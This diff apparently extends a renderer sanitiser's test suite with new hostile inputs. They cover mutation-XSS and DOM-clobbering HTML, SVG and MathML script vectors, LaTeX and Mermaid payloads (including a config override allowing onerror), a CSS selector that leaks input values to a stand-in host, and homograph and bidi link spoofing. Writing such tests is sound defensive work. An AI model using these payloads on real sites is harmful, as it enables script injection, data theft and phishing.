@@ -46,6 +46,13 @@ const HTML = [
   '<noscript><p title="</noscript><img src=x onerror=canary()>">',
   '<textarea><img title="</textarea><img src=x onerror=canary()>"></textarea>',
   '<style>@import "https://evil.example/i.css"; body{display:none}</style>',
+  '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary()>',
+  '<form id=root><input name=attributes><input name=parentNode><img name=getElementById></form>',
+  '<a id=document><a id=document name=cookie href="x:1">',
+  `<style>input[value^="a"]{background:url(${E}/leak?a)}</style><input value="abc">`,
+  '<p class="fixed inset-0" style="animation:x" onanimationstart=canary()>a</p>',
+  '<img src=x:x onerror\u000b=canary()>\u0000<scr\u0000ipt>canary()</scr\u0000ipt>',
 ]
 
 const SVG = [
@@ -64,6 +71,9 @@ const SVG = [
   '<math><maction actiontype="statusline#" xlink:href="javascript:canary()">a</maction></math>',
   '<math><annotation-xml encoding="text/html"><script>canary()</script></annotation-xml></math>',
   '<math display="block" onclick="canary()"><mi>x</mi></math>',
+  `<svg><a><animate attributeName="href" values="javascript:canary()"/><text>a</text></a></svg>`,
+  `<svg><image xlink:href="${E}/x.svg"/><mpath href="${E}/m"/><cursor href="${E}/c"/></svg>`,
+  '<math><mi xlink:href="data:text/html,<script>canary()</script>">a</mi></math>',
 ]
 
 const MATHS = [
@@ -90,6 +100,10 @@ const MATHS = [
   '\\(a\n\\tag{<svg onload=canary()>}\\)',
   `\\(${'a'.repeat(30_000)}\\)`,
   '$$\n<script>canary()</script>\n',
+  `$\\def\\x{\\href{${E}/macro}}\\x{a}$ $\\let\\y\\url\\y{javascript:canary()}$`,
+  `\\(\\require{html}\\cssId{root}{a}\\class{fixed}{b}\\style{background:url(${E}/mj.png)}{c}\\data{x=1}{d}\\)`,
+  `$\\text{\\url{${E}/text}}$ $\\includesvg{${E}/a.svg}$ $\\href{data:text/html,x}{a}$`,
+  '$\\hspace{99999999999em}$ $\\rule[99999999999em]{1em}{1em}$ $x_{999999999999999999999999999999}$',
 ]
 
 const DIAGRAMS = [
@@ -117,6 +131,17 @@ const DIAGRAMS = [
   fence(`flowchart LR\n${Array.from({ length: 2_000 }, (_, i) => `  n${i} --> n${(i * 7) % 2_000}`).join('\n')}`),
   fence(`graph TD\n  ${'subgraph a\n'.repeat(300)}`),
   fence('flowchart LR\n  A["$$\\href{javascript:canary()}{x}$$"] --> B["`**[a](javascript:canary())**`"]'),
+  fence('gantt\n  section a\n  b :b1, 2026-01-01, 1d\n  click b1 href "javascript:canary()"\n  click b1 call canary()'),
+  fence(
+    '%%{init: {"flowchart": {"htmlLabels": true, "defaultRenderer": "elk"}, "dompurifyConfig": {"ADD_ATTR": ["onerror"]}}}%%\nflowchart LR\n  A["<img src=x onerror=canary()>"]',
+  ),
+  fence(`architecture-beta\n  group a(${E}/icon.svg)[A]\n  service b(logos:aws)["<img src=x onerror=canary()>"] in a`),
+  fence(`C4Context\n  Person(a, "<b onclick=canary()>", "x", $sprite="${E}/s.png", $link="javascript:canary()")`),
+  fence('journey\n  title <script>canary()</script>\n  section <img src=x onerror=canary()>\n    a: 99999999999: b'),
+  fence(
+    'stateDiagram-v2\n  a --> b: <svg/onload=canary()>\n  note right of a\n    <iframe src="javascript:canary()"></iframe>\n  end note',
+  ),
+  fence('pie title a\n  "<img src=x onerror=canary()>" : 1e308\n  "b" : 99999999999999999999'),
 ]
 
 const DISGUISED = [
@@ -216,6 +241,10 @@ const HOSTS = [
   '[support@bank.example](mailto:support@evil.example)',
   '[\ufeff](https://evil.example)',
   '[\u3164](https://evil.example) [ ](https://evil.example)',
+  '[bank.example](https:///evil.example) [bank.example](http:\\\\\\\\evil.example) [bank.example](https:evil.example)',
+  '[bank.example](https://bank.example\u3002evil.example/) [bank.example](https://bank.example:443@evil.example:080/)',
+  'https://www.\u0430\u0440\u0440\u04cf\u0435.example https://xn--80ak6aa92e.example \u2066https://evil.example/\u2069elpmaxe.knab',
+  '[https://bank.example/](https://evil.example "https://bank.example/")',
 ]
 
 const NAMES = [
@@ -233,6 +262,10 @@ const NAMES = [
   '{{constructor.constructor("canary()")()}} ${canary()} #{canary()} <%= canary() %>',
   ':root{background:url(https://evil.example/css.png)} expression(canary()) @import "https://evil.example/x.css";',
   '- [x]<img src=x onerror=canary()>\n- [ ] <input autofocus onfocus=canary()>',
+  'a[^body] b[^documentElement]\n\n[^body]: c\n[^documentElement]: d',
+  'a[^"><img/src=x/onerror=canary()>] b[^%22%3E] c[^javascript:canary()]\n\n[^"><img/src=x/onerror=canary()>]: d\n[^%22%3E]: e\n[^javascript:canary()]: f',
+  '999999999. a\n\n0. b\n\n[999] [000] [1e9] [\uff11]',
+  '```{onclick=canary()}\na\n```\n\n```constructor prototype\nb\n```\n\n~~~\u202emermaid\nc\n~~~',
 ]
 
 /** Each is small for what it costs a careless reader. */
